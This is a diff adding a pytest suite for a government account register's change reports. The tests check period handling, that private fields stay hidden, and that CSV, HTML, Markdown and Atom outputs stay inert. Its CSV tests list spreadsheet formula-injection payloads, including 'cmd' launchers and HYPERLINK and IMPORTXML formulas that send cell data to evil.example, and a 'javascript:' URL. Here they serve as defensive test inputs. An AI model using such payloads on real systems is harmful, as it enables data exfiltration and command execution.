@@ -1,0 +1,706 @@
+"""Reports: what they tell, who may read it, and that no format of them does anything but tell."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import re
+from collections import Counter
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from xml.etree import ElementTree
+
+import pexpect
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from tests.commands import run, run_apart, talk
+from tests.histories import CLOSED, DORMANT, MOVED, NEWER, RENAMED, Past, agency_renamed
+from tests.output.test_formats import HOSTILE, assert_safe
+from tests.registers import ACCOUNT, ACCOUNT_TEXT, AGENCY, PROJECT, SMALL, Files, Repository
+
+from smregister.changes.period import CommitChanges
+from smregister.changes.public import PublicChange
+from smregister.model import FieldChange, Table, Value
+from smregister.output.atom import atom_lines
+from smregister.output.formats import TABLE_WRITERS
+from smregister.output.phrases import plain_words
+from smregister.records.schema.kind_loader import load_kinds
+from smregister.reports.feed import feed
+from smregister.repository.commits import Commit
+from smregister.repository.work_tree import WorkTree
+
+REGISTER = "registry/register.yaml"
+APPOINTMENT = "registry/agencies/health/appointments/manager.yaml"
+ATOM = "{http://www.w3.org/2005/Atom}"
+FORMATS = ("text", "json", "csv", "markdown", "html", "atom")
+SECRET = "Not-for-the-public"
+
+
+@pytest.fixture
+def past(repository: Repository) -> Past:
+    repository.git("tag", "v1")
+    return Past(repository)
+
+
+def report(past: Past, *arguments: str, since: str = "v1") -> dict[str, Any]:
+    answer = run(past.repository.root, "report", "changes", "--from", since, "--json", *arguments)
+    assert answer.status == 0, answer.messages
+    return answer.json()
+
+
+def rows(past: Past, *arguments: str, since: str = "v1") -> list[tuple[object, ...]]:
+    return [tuple(row.values()) for row in report(past, *arguments, since=since)["rows"]]
+
+
+def table(*cells: str, summary: int = 1) -> Table:
+    counts: dict[str, Value] = {"added": summary, "agencies": {}}
+    names, notes = ("id", "field"), (f"Note {cells[0]}",)
+    return Table("changes", f"Title {cells[0]}", cells[0], names, (cells,), counts, names, (cells,), notes)
+
+
+# What is told.
+
+
+def test_the_document(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT, RENAMED: NEWER.replace("example_health", "news")}, at="2026-02-03")
+    place = {"kind": "account", "agency": "health", "before_id": None}
+    status = {"before": "active", "after": "dormant"}
+    assert report(past) == {
+        "version": 1,
+        "report": "changes",
+        "as_of": "2026-02-03",
+        "columns": ["id", "kind", "agency", "change", "before_id", "field", "before", "after"],
+        "rows": [
+            {"id": "health/x-health", **place, "change": "changed", "field": "/status", **status},
+            {"id": "health/x-news", **place, "change": "added", "field": None, "before": None, "after": None},
+        ],
+        "summary": {
+            "added": 1, "removed": 0, "changed": 1, "renamed": 0, "closed": 0,
+            "agencies": {"health": {"added": 1, "removed": 0, "changed": 1, "renamed": 0, "closed": 0}},
+        },
+    }  # fmt: skip
+
+
+def test_what_came_and_went_within_the_period_is_not_told(past: Past) -> None:
+    past.commit({RENAMED: NEWER})
+    past.commit({RENAMED: None})
+    assert rows(past) == []
+
+
+def test_closed_removed_and_renamed(past: Past) -> None:
+    past.commit({RENAMED: NEWER.replace("example_health", "news")})
+    past.repository.git("tag", "v2")
+    past.commit({ACCOUNT: CLOSED, RENAMED: None})
+    assert [(row[0], row[3]) for row in rows(past, since="v2")] == [
+        *[("health/x-health", "closed")] * 3,
+        ("health/x-news", "removed"),
+    ]
+
+
+def test_an_agency_tells_what_it_gained_and_lost(past: Past) -> None:
+    works = AGENCY.replace("/health/", "/works/")
+    past.commit({works: SMALL[AGENCY], ACCOUNT: None, ACCOUNT.replace("/health/", "/works/"): ACCOUNT_TEXT})
+    assert [row[:5] for row in rows(past, "--agency", "health")] == [
+        ("works/x-health", "account", "works", "renamed", "health/x-health")
+    ]
+    assert len(rows(past, "--agency", "works")) == 2
+
+
+def test_the_desk_s_records_belong_to_no_agency(past: Past) -> None:
+    past.commit({REGISTER: str(SMALL[REGISTER]).replace("Example desk", "Another desk")})
+    assert rows(past) == [("register", "register", None, "changed", None, "/custodian", "Example desk", "Another desk")]
+    assert rows(past, "--agency", "health") == []
+
+
+def test_nothing_changed(past: Past) -> None:
+    past.commit({ACCOUNT: f"# A comment.\n{ACCOUNT_TEXT}"})
+    answer = run(past.repository.root, "report", "changes", "--from", "v1")
+    assert (answer.status, answer.output, answer.messages) == (0, "", "from v1 to HEAD: nothing\n")
+    assert report(past)["rows"] == []
+    for format_ in FORMATS:
+        assert run(past.repository.root, "report", "changes", "--from", "v1", "--format", format_).status == 0
+
+
+def test_at_a_terminal_columns_are_aligned(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT})
+    with talk(past.repository.root, "report", "changes", "--from", "v1", settings={"COLUMNS": "200"}) as terminal:
+        terminal.expect("Record +.*Change +.*Field +.*Before +.*After")
+        terminal.expect("account health/x-health +changed +status +active +dormant")
+        terminal.expect("from v1 to HEAD: 1 changed")
+
+
+def test_at_a_narrow_terminal_nothing_is_cut(past: Past) -> None:
+    past.commit({ACCOUNT: ACCOUNT_TEXT.replace("News for the press", "Answers to citizens about the hospitals")})
+    with talk(past.repository.root, "report", "changes", "--from", "v1", settings={"COLUMNS": "60"}) as terminal:
+        terminal.expect(pexpect.EOF)
+    told = " ".join((terminal.before or "").split())
+    assert "…" not in told
+    assert all(word in told for word in ("Answers", "citizens", "hospitals", "press"))
+
+
+PEOPLE = ("text", "markdown", "html")
+
+
+@pytest.mark.parametrize("format_", PEOPLE)
+def test_people_read_words_and_programs_their_names(past: Past, format_: str) -> None:
+    past.commit({RENAMED: DORMANT.replace("languages: [en]", "languages: [en, fr]"), ACCOUNT: None})
+    answer = run(past.repository.root, "report", "changes", "--from", "v1", "--format", format_).output
+    assert all(heading in answer for heading in ("Record", "Change", "Field", "Before", "After"))
+    assert not any(sign in answer for sign in ("before_id", "/languages", '["en"', "[&quot;en"))
+    assert "en, fr" in answer
+    assert rows(past)[0][:6] == ("health/x-news", "account", "health", "renamed", "health/x-health", "/languages")
+
+
+def test_another_name_is_told_in_a_line_of_its_own(past: Past) -> None:
+    past.commit({RENAMED: DORMANT, ACCOUNT: None})
+    answer = run(past.repository.root, "report", "changes", "--from", "v1")
+    assert answer.output.splitlines()[1:] == [
+        "account health/x-news\trenamed\t\thealth/x-health\thealth/x-news",
+        "account health/x-news\tchanged\tstatus\tactive\tdormant",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("value", "words"),
+    [
+        (None, ""),
+        (True, "yes"),
+        (0, "0"),
+        (["en", "fr"], "en, fr"),
+        ({"from": "2020-01-01", "by": {"post": "Officer"}}, "from: 2020-01-01, by: (post: Officer)"),
+        ([{"kind": "press", "seen": None}, {"kind": "letter"}], "kind: press, seen: ; kind: letter"),
+        ([["a", "b"], "c"], "a, b; c"),
+    ],
+)
+def test_values_in_words(value: Value, words: str) -> None:
+    assert plain_words(value) == words
+
+
+def test_in_a_pipe_tabs_separate(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT})
+    answer = run(past.repository.root, "report", "changes", "--from", "v1")
+    assert answer.output.splitlines()[1] == "account health/x-health\tchanged\tstatus\tactive\tdormant"
+
+
+# Which period.
+
+
+def test_a_day_is_the_last_commit_by_its_end_in_the_register_s_zone(past: Past) -> None:
+    past.commit({REGISTER: f"{SMALL[REGISTER]}timezone: Pacific/Port_Moresby\n"}, at="2026-01-02")
+    past.commit({ACCOUNT: NEWER}, at="2026-02-03T13:59:59Z")
+    past.commit({ACCOUNT: DORMANT}, at="2026-02-03T14:00:01Z")
+    assert [row[6:] for row in rows(past, "--to", "2026-02-03", since="2026-01-02")] == [
+        ("News for the press", "Newer things for the press")
+    ]
+    assert report(past, "--to", "2026-02-28", since="2026-01-02")["as_of"] == "2026-02-28"
+    assert len(rows(past, since="2026-02-03")) == 2
+    assert rows(past, since="2026-02-04") == []
+
+
+def test_a_day_counts_merges_when_they_were_merged(past: Past) -> None:
+    past.branch("side")
+    past.commit({ACCOUNT: DORMANT}, at="2026-01-05")
+    past.merge("side", "Merge branch 'side'", at="2026-02-03")
+    assert rows(past, "--to", "2026-01-31") == []
+    assert len(rows(past, "--to", "2026-02-03")) == 1
+
+
+def test_the_last_of_all_days(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
+    assert report(past, "--to", "9999-12-31")["as_of"] == "9999-12-31"
+
+
+def test_a_page_names_its_period_for_good(past: Past) -> None:
+    commit = past.commit({ACCOUNT: DORMANT})
+    answer = run(past.repository.root, "report", "changes", "--from", "2026-01-01", "--format", "html")
+    assert f"<h1>Changes of the register from 2026-01-01 to HEAD ({commit[:10]})</h1>" in answer.output
+
+
+@pytest.mark.parametrize("since", ["2025-12-31", "0001-01-01"])
+def test_a_period_that_begins_before_the_first_commit_begins_with_nothing(past: Past, since: str) -> None:
+    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
+    answer = run(past.repository.root, "report", "changes", "--from", since, "--agency", "health")
+    assert answer.output.splitlines()[1:] == ["account health/x-health\tadded\t\t\t", "agency health\tadded\t\t\t"]
+    assert answer.messages.splitlines() == [
+        f"nothing had been committed by {since} (the first commit is of 2026-01-01); "
+        "the period begins with an empty register",
+        f"from {since} to HEAD: 2 added",
+    ]
+    assert f"<h1>Changes of the register from {since} to " in outputs(past, since)
+
+
+def test_a_clock_that_was_wrong_once_hides_nothing(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT}, at="2036-01-01")
+    past.commit({RENAMED: NEWER}, at="2026-02-03")
+    assert len(rows(past, "--to", "2026-02-03")) == 2
+
+
+@pytest.mark.parametrize(
+    ("arguments", "reason"),
+    [
+        (
+            ["--from", "2025-12-30", "--to", "2025-12-31"],
+            "nothing had been committed by 2025-12-31 (the first commit is of 2026-01-01), so there is nothing to tell",
+        ),
+        (["--from", "v1", "--to", "0001-01-01"], "nothing had been committed by 0001-01-01"),
+        (["--from", "2026-02-30"], "is no day"),
+        (["--from", "HEAD", "--to", "v1"], "`v1` comes before `HEAD`"),
+        (["--from", "nonsense"], "there is no commit, tag or branch `nonsense`"),
+        (["--from", "--output=x"], "there is no commit, tag or branch `--output=x`"),
+        (["--from", "v1", "--agency", "helth"], "there is no agency `helth` at either end of the period; did you mean"),
+        ([], "Missing option '--from'"),
+        (["--from", "v1", "--format", "pdf"], "Invalid value"),
+    ],
+)
+def test_what_can_t_be_told(past: Past, arguments: list[str], reason: str) -> None:
+    past.commit({ACCOUNT: DORMANT})
+    answer = run(past.repository.root, "report", "changes", *arguments)
+    assert (answer.status, answer.output) == (2, "")
+    assert reason in answer.messages
+
+
+def test_without_git_there_is_no_period(register: Path) -> None:
+    answer = run(register, "report", "changes", "--from", "2026-01-01")
+    assert answer.status == 2
+    assert "is not in a git repository" in answer.messages
+
+
+def test_a_shallow_clone_has_no_early_days(past: Past, tmp_path: Path) -> None:
+    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
+    past.repository.git("clone", "--quiet", "--depth", "1", past.repository.root.as_uri(), str(tmp_path / "clone"))
+    answer = run(tmp_path / "clone", "report", "changes", "--from", "2026-01-15")
+    assert answer.status == 2
+    assert "`git fetch --unshallow` brings all of history" in answer.messages
+
+
+def test_what_can_t_be_read_is_said(past: Past) -> None:
+    past.commit({ACCOUNT: "platform: [x\n"})
+    for format_ in FORMATS:
+        answer = run(past.repository.root, "report", "changes", "--from", "v1", "--format", format_)
+        assert answer.status == 1
+        assert f"not compared: {ACCOUNT}" in answer.messages
+
+
+def test_a_register_older_than_its_schemas(past: Past) -> None:
+    past.repository.git("checkout", "--quiet", "--orphan", "new")
+    past.repository.git("rm", "--quiet", "-r", "--force", ".")
+    past.commit({"README.md": "Soon."})
+    past.repository.git("tag", "--force", "v0")
+    past.repository.git("checkout", "--quiet", "main", "--", ".")
+    past.commit({})
+    assert ("health/x-health", "added") in [(row[0], row[3]) for row in rows(past, since="v0")]
+
+
+# What is not for everybody.
+
+
+def outputs(past: Past, since: str = "v1") -> str:
+    return "".join(
+        run(past.repository.root, "report", "changes", "--from", since, "--format", format_).output
+        for format_ in FORMATS
+    )
+
+
+def private_fields(kind: str) -> list[tuple[str, ...]]:
+
+    routes = [field.route for field in load_kinds(WorkTree(PROJECT))[0][kind].fields.values() if field.private]
+    return [each for each in routes if not any(other[:-1] == each for other in routes)]
+
+
+def filled(route: tuple[str, ...], value: str) -> object:
+    """Make a value that holds a secret where a route leads."""
+    if not route:
+        return value
+    below = filled(route[1:], value)
+    return [below] if route[0] == "*" else {route[0]: below}
+
+
+def together(one: object, other: object) -> object:
+    """Put two values together: mappings key by key, lists by their first entries."""
+    if isinstance(one, dict) and isinstance(other, dict):
+        return one | {key: together(one[key], value) if key in one else value for key, value in other.items()}
+    return [together(one[0], other[0])] if isinstance(one, list) and isinstance(other, list) else one
+
+
+@pytest.mark.parametrize("kind", ["account", "agency", "appointment", "register", "directive"])
+def test_no_private_field_stands_in_any_format(past: Past, kind: str) -> None:
+    layouts = {"account": ACCOUNT, "agency": AGENCY, "appointment": APPOINTMENT, "register": REGISTER}
+    place = layouts.get(kind, "registry/directives/one.yaml")
+    routes = private_fields(kind)
+    assert routes
+    secrets: object = {"name": "x"}
+    for number, route in enumerate(routes):
+        secrets = together(secrets, filled(route, f"{SECRET}-{number}"))
+    past.commit({place: json.dumps(secrets)})
+    assert json.dumps(secrets).count(SECRET) == len(routes)
+    assert SECRET not in outputs(past)
+    past.commit({place: json.dumps({"name": "x"})})
+    assert "private fields changed" in (told := outputs(past, "HEAD~1"))
+    assert SECRET not in told
+
+
+def test_of_a_private_field_it_is_said_that_it_changed(past: Past) -> None:
+    past.commit({ACCOUNT: f"{DORMANT}notes: {SECRET}\n"})
+    assert [row[5:] for row in rows(past)] == [
+        ("/status", "active", "dormant"),
+        ("private fields changed", None, None),
+    ]
+
+
+@pytest.mark.parametrize("earlier", [True, False])
+def test_what_is_private_in_any_schema_of_the_period_is_not_told(past: Past, earlier: bool) -> None:
+    schema = past.repository.root / "schemas/account.schema.json"
+    described = json.loads(schema.read_text())
+    described["properties"]["purpose"]["x-private"] = True
+    private = {"schemas/account.schema.json": json.dumps(described)}
+    public = {"schemas/account.schema.json": schema.read_text()}
+    past.commit(private if earlier else public)
+    past.repository.git("tag", "v2")
+    past.commit({ACCOUNT: ACCOUNT_TEXT.replace("News for the press", SECRET)})
+    past.commit(public if earlier else private)
+    if not earlier:
+        assert SECRET not in outputs(past, "v2")
+    assert SECRET not in run(past.repository.root, "report", "changes", "--from", "v2", "--format", "csv").output
+
+
+def test_what_one_alternative_of_a_schema_calls_private_is_not_told(past: Past) -> None:
+    schema = past.repository.root / "schemas/account.schema.json"
+    described = json.loads(schema.read_text())
+    purpose = described["properties"]["purpose"]
+    described["anyOf"] = [{"properties": {"purpose": purpose | {"x-private": True}}}, *described.get("anyOf", [])]
+    past.commit({"schemas/account.schema.json": json.dumps(described)})
+    past.commit({ACCOUNT: ACCOUNT_TEXT.replace("News for the press", SECRET)})
+    assert ("private fields changed", None, None) in [row[5:] for row in rows(past)]
+    assert SECRET not in outputs(past)
+
+
+def test_what_no_schema_describes_is_not_told(past: Past) -> None:
+    past.commit({ACCOUNT: f"{ACCOUNT_TEXT}phone: {SECRET}\n"})
+    assert SECRET not in outputs(past)
+    assert [row[5] for row in rows(past)] == ["private fields changed"]
+
+
+@pytest.mark.parametrize("officer", [SECRET, f"[{SECRET}]", f"[[{SECRET}]]", f"{{0: {SECRET}}}"])
+def test_a_value_of_the_wrong_shape_does_not_pass_for_a_public_one(past: Past, officer: str) -> None:
+    past.commit({APPOINTMENT: f"officer: {officer}\n"})
+    assert SECRET not in outputs(past)
+    past.commit({APPOINTMENT: "officer: x\n"})
+    assert SECRET not in outputs(past, "HEAD~1")
+
+
+def test_who_wrote_a_commit_is_not_told(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT}, f"A word about {SECRET}", by=SECRET)
+    assert SECRET not in outputs(past)
+
+
+def test_deeply_nested_data_costs_nothing(past: Past) -> None:
+    deep = "x: " + "{a: " * 30 + "1" + "}" * 30 + "\n"
+    past.commit({ACCOUNT: ACCOUNT_TEXT + deep})
+    assert [row[5] for row in rows(past)] == ["private fields changed"]
+
+
+# CSV: no spreadsheet runs anything.
+
+FORMULAS = [
+    *(f"{sign}1+1" for sign in "=+-@＝＋－＠|%"),
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(\"https://evil.example\", A1), \"//a\")",
+    "-2+3+cmd|' /C calc'!D2",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\xa0=1+1",
+    "\u3000＝1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\x00=1+1",
+    "\u202e=1+1",
+    "\t",
+    "%0A=1+1",
+    "−1",
+]  # fmt: skip
+HARMLESS = ["plain", "a=b", "1+1", "x@example.org", "", "'=1+1", '"quoted"', "two, cells", "a;b", "two\nlines", "官方"]
+
+
+def read_back(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_becomes_a_text(text: str) -> None:
+    [_, row] = read_back("\n".join(TABLE_WRITERS["csv"](table(text, text))))
+    assert len(row) == 2
+    assert all(cell.startswith("'") for cell in row)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_texts_come_back_as_they_were(text: str) -> None:
+    assert read_back("\n".join(TABLE_WRITERS["csv"](table(text, text))))[1:] == [[text, text]]
+
+
+@given(st.text(), st.text())
+def test_every_cell_stays_one_cell_and_begins_no_formula(one: str, two: str) -> None:
+    lines = list(TABLE_WRITERS["csv"](table(one, two)))
+    [heading, row] = read_back("\n".join(lines))
+    assert heading == ["id", "field"]
+    assert not any(cell[:1] in set("=+-@\t\r＝＋－＠|%") - {""} for cell in row)
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)
+
+
+def test_values_that_are_no_texts() -> None:
+    rows = ((None, True, 12, ["a", {"b": None}]),)
+    several = Table("x", "X", "2026-01-01", ("a", "b", "c", "d"), rows, {}, ("A", "B", "C", "D"), rows)
+    assert read_back("\n".join(TABLE_WRITERS["csv"](several)))[1] == ["", "true", "12", '["a", {"b": null}]']
+
+
+# The other formats.
+
+
+@pytest.mark.parametrize("format_", TABLE_WRITERS)
+@pytest.mark.parametrize("text", HOSTILE)
+def test_tables_are_safe(format_: str, text: str) -> None:
+    lines = list(TABLE_WRITERS[format_](table(text, text)))
+    if format_ == "text":
+        assert [line.count("\t") for line in lines] == [1, 1]
+        lines = [line.replace("\t", " ") for line in lines]
+    assert_safe("\n".join(lines))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markdown_holds_nothing_but_code(text: str) -> None:
+    markdown = "\n".join(TABLE_WRITERS["markdown"](table(text, text)))
+    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(markdown)
+    kinds = {child.type for token in tokens for child in token.children or []}
+    assert kinds <= {"text", "code_inline", "strong_open", "strong_close"}
+    assert sum(token.type == "td_open" for token in tokens) == 2
+
+
+class _Page(HTMLParser):
+    """Collects what a page is made of."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str | None]] = []
+        self.texts: list[str] = []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+
+TAGS = [
+    *("html", "head", "meta", "meta", "meta", "title", "style", "body", "main", "h1", "ul", "li"),
+    *("table", "caption", "thead", "tr", "th", "th", "tbody", "tr", "th", "td"),
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_in_a_page_is_markup_but_its_own(text: str) -> None:
+    page = _Page("\n".join(TABLE_WRITERS["html"](table(text, text))))
+    assert page.tags == TAGS
+    assert {name for name, _ in page.attributes} == {"lang", "charset", "http-equiv", "content", "name", "scope"}
+
+
+def test_a_page_for_everybody() -> None:
+    import base64
+
+    written = "\n".join(TABLE_WRITERS["html"](table("one", "two")))
+    page = _Page(written)
+    assert written.startswith("<!DOCTYPE html>\n<html lang=\"en\">")  # fmt: skip
+    assert [value for name, value in page.attributes if name == "scope"] == ["col", "col", "row"]
+    assert "As of one: 1 added" in page.texts
+    style = written.partition("<style>")[2].partition("</style>")[0]
+    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    assert ("content", f"default-src 'none'; style-src 'sha256-{digest}'") in page.attributes
+
+
+def test_in_a_page_what_rows_begin_with_stands_once() -> None:
+    lines = (("a/x", "ONE"), ("a/x", "TWO"), ("a/y", "ONE"), (None, "ONE"))
+    table = Table("x", "X", "2026-01-01", ("account", "clause"), lines, {}, ("Account", "Clause"), lines)
+    rows = "\n".join(TABLE_WRITERS["html"](table)).partition("<tbody>\n")[2].splitlines()
+    assert rows[:4] == [
+        '<tr><th scope="row" rowspan="2">a/x</th><td>ONE</td></tr>',
+        "<tr><td>TWO</td></tr>",
+        '<tr><th scope="row">a/y</th><td>ONE</td></tr>',
+        '<tr><th scope="row"></th><td>ONE</td></tr>',
+    ]
+
+
+# The feed.
+
+COMMIT = Commit("f" * 40, (), 1_770_000_000, "Somebody", "A message")
+
+
+def change(text: str, number: int = 0) -> PublicChange:
+    fields = (FieldChange((text,), text, [text]),)
+    return PublicChange("account", f"health/{text}{number}", "health", "renamed", fields, True, f"health/{text}")
+
+
+def parsed(*texts: str) -> ElementTree.Element:
+    about = dict.fromkeys(("name", "contact", "custodian"), texts[0])
+    advances = [CommitChanges(COMMIT, [change(text, number) for number, text in enumerate(texts)], [])]
+    return ElementTree.fromstring("\n".join(atom_lines(feed(about, advances, COMMIT))).encode("utf-8", "strict"))  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_feed_is_well_formed_whatever_it_holds(text: str) -> None:
+    assert len(parsed(text).findall(f"{ATOM}entry")) == 1
+
+
+@given(st.text())
+def test_a_feed_of_any_text_is_well_formed(text: str) -> None:
+    entries = parsed(text).findall(f"{ATOM}entry")
+    assert [len(list(entry)) for entry in entries] == [4]
+
+
+def atom(past: Past, *arguments: str, since: str = "v1") -> ElementTree.Element:
+    answer = run(past.repository.root, "report", "changes", "--from", since, "--format", "atom", *arguments)
+    assert (answer.status, answer.messages) == (0, "")
+    return ElementTree.fromstring(answer.output)
+
+
+def texts(element: ElementTree.Element, name: str) -> list[str]:
+    return [found.text or "" for found in element.iter(f"{ATOM}{name}")]
+
+
+def test_a_feed_tells_each_change_when_it_came(past: Past) -> None:
+    past.commit({ACCOUNT: f"{DORMANT}notes: x\n"}, at="2026-02-03")
+    past.branch("side")
+    past.commit({RENAMED: "platform: x\nhandle: news\n"}, at="2026-02-04")
+    past.merge("side", "Merge branch 'side'", at="2026-03-04T05:06:07+10:00")
+    found = atom(past)
+    assert texts(found, "title") == [
+        "Register of a made-up government: changes",
+        "account health/x-news added",
+        "account health/x-health changed",
+    ]
+    assert texts(found, "updated") == ["2026-03-03T19:06:07Z", "2026-03-03T19:06:07Z", "2026-02-03T12:00:00Z"]
+    assert texts(found, "name") == ["Example desk"]
+    assert texts(found, "content") == [
+        "/platform: (nothing) → x\n/handle: (nothing) → news",
+        "/status: active → dormant\nprivate fields changed",
+    ]
+
+
+def test_what_is_needed_of_a_feed_is_there(past: Past) -> None:
+    past.commit(agency_renamed())
+    found = atom(past)
+    for element in (found, *found.findall(f"{ATOM}entry")):
+        assert [len(element.findall(f"{ATOM}{name}")) for name in ("id", "title", "updated")] == [1, 1, 1]
+    identifiers = texts(found, "id")
+    assert len(set(identifiers)) == 3
+    assert all(each.startswith("urn:uuid:") for each in identifiers)
+
+
+# What may stand in what, how often at least and at most (RFC 4287, sections 4.1.1, 4.1.2 and 3.2).
+MANY = 1_000_000
+GRAMMAR = {
+    "feed": {"id": (1, 1), "title": (1, 1), "updated": (1, 1), "author": (1, MANY), "link": (0, 1), "entry": (0, MANY)},
+    "entry": {"id": (1, 1), "title": (1, 1), "updated": (1, 1), "content": (1, 1)},
+    "author": {"name": (1, 1)},
+}
+WITH_SITE = {REGISTER: f"{SMALL[REGISTER]}site: https://register.example/\n"}
+
+
+@pytest.mark.parametrize("about", [{}, WITH_SITE])
+def test_a_feed_keeps_to_the_grammar_of_atom(past: Past, about: Files) -> None:
+    past.commit({ACCOUNT: f"{DORMANT}notes: x\n", **about})
+    past.commit(agency_renamed(DORMANT))
+    found = atom(past)
+    assert found.tag == f"{ATOM}feed"
+    for element in found.iter():
+        names = Counter(child.tag.removeprefix(ATOM) for child in element)
+        allowed = GRAMMAR.get(element.tag.removeprefix(ATOM), {})
+        assert names.keys() <= allowed.keys()
+        assert all(least <= names[name] <= most for name, (least, most) in allowed.items())
+    assert all(re.fullmatch(r"\d{4}(-\d\d){2}T\d\d(:\d\d){2}Z", each) for each in texts(found, "updated"))
+    assert {each.get("type") for each in (*found.iter(f"{ATOM}title"), *found.iter(f"{ATOM}content"))} == {"text"}
+
+
+@pytest.mark.parametrize(
+    ("site", "addresses"),
+    [
+        ("https://register.example/", ["https://register.example/changes.atom"]),
+        ("https://gov.example/accounts", ["https://gov.example/accounts/changes.atom"]),
+        ("https://gov.example/a&b<c>", ["https://gov.example/a&b<c>/changes.atom"]),
+        ("https://gov.example/?page=2", []),
+        ("javascript:alert(1)", []),
+        ("[1, 2]", []),
+    ],
+)
+def test_a_feed_says_where_it_is_read(past: Past, site: str, addresses: list[str]) -> None:
+    past.commit({REGISTER: f"{SMALL[REGISTER]}site: {site}\n"})
+    assert [link.get("href") for link in atom(past).iter(f"{ATOM}link") if link.get("rel") == "self"] == addresses
+    assert not [*atom(past, "--agency", "health").iter(f"{ATOM}link")]
+
+
+def test_ids_stay(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT})
+    before = texts(atom(past), "id")
+    past.commit({ACCOUNT: CLOSED})
+    after = texts(atom(past), "id")
+    assert [after[0], after[2]] == before
+    assert texts(atom(past, "--agency", "health"), "id")[1:] == after[1:]
+
+
+def test_a_feed_of_one_agency(past: Past) -> None:
+    past.commit(agency_renamed())
+    past.commit({MOVED: DORMANT})
+    assert texts(atom(past, "--agency", "health"), "title") == [
+        "Register of a made-up government: changes of health",
+        "account hygiene/x-health renamed from health/x-health",
+        "agency hygiene renamed from health",
+    ]
+
+
+def test_a_feed_from_before_the_first_commit_tells_of_that_too(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
+    arguments = ("report", "changes", "--from", "2025-12-31", "--agency", "health", "--format", "atom")
+    answer = run(past.repository.root, *arguments)
+    assert (answer.status, "begins with an empty register" in answer.messages) == (0, True)
+    assert texts(ElementTree.fromstring(answer.output), "title")[1:] == [
+        "account health/x-health changed",
+        "account health/x-health added",
+        "agency health added",
+    ]
+
+
+def test_an_empty_feed_is_as_old_as_its_register(past: Past) -> None:
+    past.commit({"README.md": "x"}, at="2026-02-03")
+    assert texts(atom(past), "updated") == ["2026-02-03T12:00:00Z"]
+
+
+def test_json_wins_over_a_format(past: Past) -> None:
+    past.commit({ACCOUNT: DORMANT})
+    assert report(past, "--format", "atom") == report(past)
+
+
+def test_the_same_bytes_every_time(past: Past) -> None:
+    past.commit(
+        agency_renamed(DORMANT) | {ACCOUNT.replace("/health/accounts/x-health", "/works/agency"): SMALL[AGENCY]}
+    )
+    for format_ in FORMATS:
+        answers = {
+            run_apart(
+                past.repository.root, "report", "changes", "--from", "v1", "--format", format_, settings=settings
+            ).output
+            for settings in ({"PYTHONHASHSEED": "1", "TZ": "Asia/Tokyo"}, {"PYTHONHASHSEED": "2", "COLUMNS": "20"})
+        }
+        assert len(answers) == 1
